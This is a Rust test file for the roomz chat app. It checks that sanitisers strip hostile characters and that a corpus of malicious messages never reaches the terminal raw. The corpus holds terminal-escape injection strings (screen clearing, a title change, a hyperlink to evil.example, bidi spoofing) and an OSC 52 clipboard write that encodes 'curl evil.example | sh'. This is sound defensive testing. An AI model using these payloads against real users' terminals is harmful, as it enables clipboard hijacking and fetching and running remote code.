//! Hostile input. Property tests: frame decoding, the text cleaners, email, room and
//! display-name canonicalisation and token parsing never panic, and what they return is
//! clean and stable. And a corpus of hostile strings (escape sequences, OSC, C1 controls,
//! bidi overrides, invalid UTF-8, huge inputs) sent through a real server, received by the
//! client library and drawn by `roomz chat`: none of it reaches a terminal cell raw.

use std::time::Instant;

use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use roomz::client::{Event as ClientEvent, Event};
use roomz::protocol::text::{
    canonical_display_name, canonical_email, canonical_room, is_unsafe_char, sanitize_line,
    sanitize_message, token_from_paste,
};
use roomz::protocol::{ClientFrame, ServerFrame};
use roomz::tui::update::{Event as ChatEvent, update};
use roomz::tui::view;

use crate::support::{ALICE, BOB, TestServer, event};

/// Any text, weighted toward the characters that make trouble.
fn hostile_text() -> impl Strategy<Value = String> {
    let troublesome = prop_oneof![
        Just('\u{1b}'),
        Just('\u{9b}'),
        Just('\u{9d}'),
        Just('\u{7}'),
        Just('\r'),
        Just('\n'),
        Just('\t'),
        Just('\u{202e}'),
        Just('\u{2066}'),
        Just('\u{200f}'),
        Just('\u{2028}'),
        Just('\u{0}'),
        Just('\u{7f}'),
        Just('@'),
        Just('.'),
        Just('/'),
        Just('='),
    ];
    let any =
        prop_oneof![3 => any::<char>(), 2 => troublesome, 2 => proptest::char::range('a', 'z')];
    proptest::collection::vec(any, 0..200).prop_map(|chars| chars.into_iter().collect())
}

// 256 cases each by default; a longer run: PROPTEST_CASES=100000 cargo test --test roomz hostile
proptest! {
    #[test]
    fn cleaned_text_is_safe_and_stays_the_same_when_cleaned_again(text in hostile_text()) {
        let message = sanitize_message(&text);
        prop_assert!(!message.chars().any(|c| c != '\n' && is_unsafe_char(c)), "{message:?}");
        prop_assert_eq!(sanitize_message(&message), message.clone());
        let line = sanitize_line(&text);
        prop_assert!(!line.chars().any(is_unsafe_char), "{line:?}");
        prop_assert_eq!(sanitize_line(&line), line.clone());
    }

    #[test]
    fn canonical_names_are_clean_and_canonical_again(text in hostile_text()) {
        if let Ok(email) = canonical_email(&text) {
            prop_assert!(!email.chars().any(is_unsafe_char));
            prop_assert_eq!(email.to_lowercase(), email.clone());
            prop_assert_eq!(canonical_email(&email), Ok(email.clone()));
        }
        if let Ok(room) = canonical_room(&text) {
            prop_assert!(!room.chars().any(is_unsafe_char));
            prop_assert_eq!(canonical_room(&room), Ok(room.clone()));
        }
        if let Ok(Some(name)) = canonical_display_name(&text) {
            prop_assert!(!name.chars().any(is_unsafe_char));
            prop_assert_eq!(canonical_display_name(&name), Ok(Some(name.clone())));
        }
    }

    #[test]
    fn pasted_tokens_are_plain_or_nothing(text in hostile_text()) {
        if let Some(token) = token_from_paste(&text) {
            prop_assert!(!token.is_empty());
            prop_assert!(
                token.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
                "{token:?}"
            );
        }
    }

    #[test]
    fn any_bytes_decode_to_a_frame_or_an_error(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = serde_json::from_slice::<ClientFrame>(&bytes);
        let _ = serde_json::from_slice::<ServerFrame>(&bytes);
    }

    #[test]
    fn frames_near_the_real_ones_decode_or_fail_cleanly(
        kind in prop_oneof![Just("send"), Just("hello"), Just("join"), Just("history"), Just("members"), Just("mark_read"), Just("set_name")],
        field in hostile_text(),
        number in any::<i64>(),
    ) {
        let json = serde_json::json!({
            "type": kind, "v": number, "room": field, "id": field, "text": field,
            "before": number, "limit": number, "seq": number, "name": field, "after": field,
        });
        let _ = serde_json::from_value::<ClientFrame>(json);
    }
}

/// The hostile corpus: what a malicious member might post.
fn corpus() -> Vec<String> {
    vec![
        "\u{1b}[2J\u{1b}[H cleared your screen".into(),
        "\u{1b}]0;pwned title\u{7}".into(),
        "\u{1b}]8;;https://evil.example\u{1b}\\click me\u{1b}]8;;\u{1b}\\".into(),
        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} clipboard".into(),
        "\u{9b}31mC1 CSI\u{9d}C1 OSC\u{9c}".into(),
        "\u{202e}evil.exe\u{202c}txt \u{2066}isolated\u{2069} \u{200f}rtl".into(),
        "bell\u{7}\u{7}\u{7} backspace\u{8}\u{8} delete\u{7f} nul\u{0}".into(),
        "\r\ncarriage\rreturns\u{2028}separators\u{2029}".into(),
        "\u{1b}P+q544e\u{1b}\\ DCS".into(),
        format!("huge {}", "\u{1b}[31m".repeat(1_000)),
        "tabs\tand\tmore\ttabs".into(),
        "wide 日本語 and emoji 🎉 with combining e\u{301}".into(),
    ]
}

#[tokio::test]
async fn a_hostile_corpus_through_the_server_never_reaches_the_terminal_raw() {
    let server = TestServer::start().await;
    let alice = server.client(ALICE).await;
    let bob = server.client(BOB).await;
    let mut events = bob.events();
    alice.set_display_name(Some("Mal\u{1b}[31m\u{202e}lory\u{9b}")).await.unwrap();
    for text in corpus() {
        alice.send("general", &text).await.unwrap();
    }
    // What bob's client library hands the chat, message by message.
    let mut state = crate::tui::support::connected(&[crate::tui::support::room("general", 0, 0)]).0;
    let mut received = 0;
    while received < corpus().len() {
        let message = event(&mut events, |e| match e {
            Event::Message(m) => Some(m),
            _ => None,
        })
        .await;
        assert!(
            !message.text.chars().any(|c| c != '\n' && is_unsafe_char(c)),
            "the server kept {:?}",
            message.text
        );
        update(&mut state, ChatEvent::Client(ClientEvent::Message(message)), Instant::now());
        received += 1;
    }
    for (width, height) in [(120, 40), (40, 12)] {
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        terminal.draw(|frame| _ = view::draw(frame, &state, Instant::now())).unwrap();
        for cell in terminal.backend().buffer().content() {
            assert!(
                !cell.symbol().chars().any(is_unsafe_char),
                "a raw {:?} reached the screen",
                cell.symbol()
            );
        }
    }

    // Bytes that are not UTF-8 never become text: a binary frame is refused and the
    // connection stays.
    let session = server.login(ALICE).await;
    let mut raw =
        crate::support::Client::connect(&server.ws_url(), &session, Default::default()).await;
    raw.send_ws(tokio_tungstenite::tungstenite::Message::binary(vec![0xff, 0xfe, b'{', 0x80]))
        .await
        .unwrap();
    let refused = raw.error().await;
    assert_eq!(refused.code, roomz::protocol::ErrorCode::BadFrame);
    let pong = raw.request(|req| ClientFrame::Ping { req }).await;
    assert!(matches!(pong, ServerFrame::Pong { .. }));
    drop(bob);
}
